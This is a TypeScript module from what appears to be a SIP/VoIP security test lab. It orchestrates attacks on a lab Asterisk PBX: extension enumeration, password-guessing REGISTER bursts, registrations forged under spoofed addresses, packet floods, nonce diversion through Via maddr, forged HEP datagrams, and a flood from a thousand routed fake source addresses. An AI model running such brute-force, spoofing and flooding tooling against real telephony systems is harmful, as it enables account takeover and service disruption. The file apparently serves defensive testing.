// Attacks of the lab's own, for what the known tools do not show: a patient enumeration, and forged addresses.
import { join } from 'node:path';
import { addresses, type Host } from './addresses.ts';
import type { Network } from './namespaces.ts';
import type { CrowdFinding, CrowdOptions } from './programs/crowd.ts';
import type { ForgeFinding, ForgeOptions, Forgery } from './programs/forge.ts';
import type { HepSenderFinding, HepSenderOptions } from './programs/hep-sender.ts';
import type { MaddrFinding, MaddrOptions } from './programs/maddr-forger.ts';
import type { BurstFinding, BurstOptions } from './programs/register-burst.ts';
import type { Protocol } from './sip-transport.ts';

export interface EnumerationSettings {
  readonly host?: Host;
  readonly family?: 'ipv4' | 'ipv6';
  readonly protocol?: Protocol;
  readonly first?: number;
  readonly count?: number;
  readonly perSecond?: number;
}

/** Asks after extensions that do not exist, without credentials. */
export function enumerateExtensions(
  network: Network,
  settings: EnumerationSettings = {},
): Promise<BurstFinding> {
  const { host = 'attacker', family = 'ipv4', protocol = 'UDP' } = settings;
  const { first = 2_000, count = 200, perSecond = 50 } = settings;
  return registerBurst(network, host, {
    protocol,
    server: addresses.pbx[family],
    local: addresses[host][family],
    accounts: Array.from({ length: count }, (_, index) => String(first + index)),
    perSecond,
    userAgent: 'lab enumeration',
    withInventedCredentials: false,
  });
}

/** REGISTERs with invented credentials from the attacker's own address, over one connection where there are such. */
export function guessPasswords(
  network: Network,
  {
    protocol = 'UDP' as Protocol,
    account = '1005',
    count = 40,
    perSecond = 20,
    localPort = undefined as number | undefined,
    userAgent = 'lab guesses',
    host = 'attacker' as Host,
    server = addresses.pbx.ipv4 as string,
    local = addresses[host].ipv4 as string,
  } = {},
): Promise<BurstFinding> {
  return registerBurst(network, host, {
    protocol,
    server,
    local,
    ...(localPort === undefined ? {} : { localPort }),
    accounts: Array.from({ length: count }, () => account),
    perSecond,
    userAgent,
    withInventedCredentials: true,
  });
}

export interface ForgerySettings {
  /** Whose address the attacker writes into the packets, and from which port. */
  readonly as: string;
  readonly port: number;
  readonly count?: number;
  readonly perSecond?: number;
  readonly account?: string;
}

/** REGISTERs with invented credentials under another's address; the answers go to the true owner. */
export async function forgeRegistrations(network: Network, settings: ForgerySettings): Promise<BurstFinding> {
  const { as, port, count = 20, perSecond = 20, account = '100' } = settings;
  await network.borrowAddress('attacker', as);
  return registerBurst(network, 'attacker', {
    protocol: 'UDP',
    server: addresses.pbx[as.includes(':') ? 'ipv6' : 'ipv4'],
    local: as,
    localPort: port,
    accounts: Array.from({ length: count }, () => account),
    perSecond,
    userAgent: 'lab forgery',
    withInventedCredentials: true,
  });
}

/** Packets of one kind from the attacker's own address. */
export function flood(
  network: Network,
  forgery: Forgery,
  { count = 200, perSecond = 100, port = 5_060 } = {},
): Promise<ForgeFinding> {
  const as = addresses.attacker.ipv4;
  const options: ForgeOptions = { forgery, server: addresses.pbx.ipv4, as, port, count, perSecond };
  return runAttack(network, 'forge', options, (count * 1_000) / perSecond);
}

/** Packets of one kind under another's address. */
export async function forge(
  network: Network,
  forgery: Forgery,
  {
    as,
    port = 5_060,
    count = 20,
    perSecond = 20,
  }: { as: string; port?: number; count?: number; perSecond?: number },
): Promise<ForgeFinding> {
  await network.borrowAddress('attacker', as);
  const options: ForgeOptions = { forgery, server: addresses.pbx.ipv4, as, port, count, perSecond };
  return runAttack(network, 'forge', options, (count * 1_000) / perSecond);
}

/** Learns a genuine nonce through a Via `maddr`, and guesses with it under the forged address. */
export async function forgeWithDivertedAnswers(
  network: Network,
  { as, account = '100', guesses = 15 }: { as: string; account?: string; guesses?: number },
): Promise<MaddrFinding> {
  await network.borrowAddress('attacker', as);
  const own = addresses.attacker.ipv4;
  const options: MaddrOptions = { server: addresses.pbx.ipv4, as, own, account, guesses };
  return runAttack(network, 'maddr-forger', options, guesses * 20 + 5_000);
}

/** From the PBX's own machine: datagrams that say that Asterisk mirrored guesses of `as`. */
export function forgeMirror(
  network: Network,
  { as, password, count = 300 }: { as: string; password: string; count?: number },
): Promise<HepSenderFinding> {
  const options: HepSenderOptions = { as, password, count };
  return runAttack(network, 'hep-sender', options, 30_000, 'pbx');
}

/** The benchmark network (RFC 2544 Appendix C.2.2): the documentation's ones hold fewer than a thousand. */
const crowdNetwork = '198.18.0.0/22';

/** Addresses of the attacker's that the PBX answers to. */
export async function gatherCrowd(network: Network, count = 1_000): Promise<readonly string[]> {
  const { attacker } = addresses;
  await network.run('attacker', 'ip', ['route', 'replace', 'local', crowdNetwork, 'dev', 'lo']);
  await network.run('pbx', 'ip', ['route', 'replace', crowdNetwork, 'via', attacker.ipv4]);
  return Array.from({ length: count }, (_, index) => `198.18.${index >> 8}.${index & 255}`);
}

/** Requests of the crowd for users that do not exist, `each` of everybody. */
export function floodFrom(
  network: Network,
  sources: readonly string[],
  { each = 15, perSecond = 3_000 } = {},
): Promise<CrowdFinding> {
  const options: CrowdOptions = { server: addresses.pbx.ipv4, sources, each, perSecond };
  return runAttack(network, 'crowd', options, (sources.length * each * 1_000) / perSecond);
}

const marginMs = 10_000;

async function runAttack<Finding>(
  network: Network,
  name: string,
  options: object,
  takesMs: number,
  host: Host = 'attacker',
): Promise<Finding> {
  const program = join(import.meta.dirname, `programs/${name}.ts`);
  const timeoutMs = Math.ceil(takesMs) + marginMs;
  const arguments_ = [program, JSON.stringify(options)];
  const { exitCode, stdout, stderr } = await network.run(host, process.execPath, arguments_, { timeoutMs });
  if (exitCode !== 0) throw new Error(`the attack failed to run: ${stderr}`);
  return JSON.parse(stdout) as Finding;
}

function registerBurst(network: Network, host: Host, options: BurstOptions): Promise<BurstFinding> {
  return runAttack(
    network,
    'register-burst',
    options,
    (options.accounts.length * 1_000) / options.perSecond,
    host,
  );
}
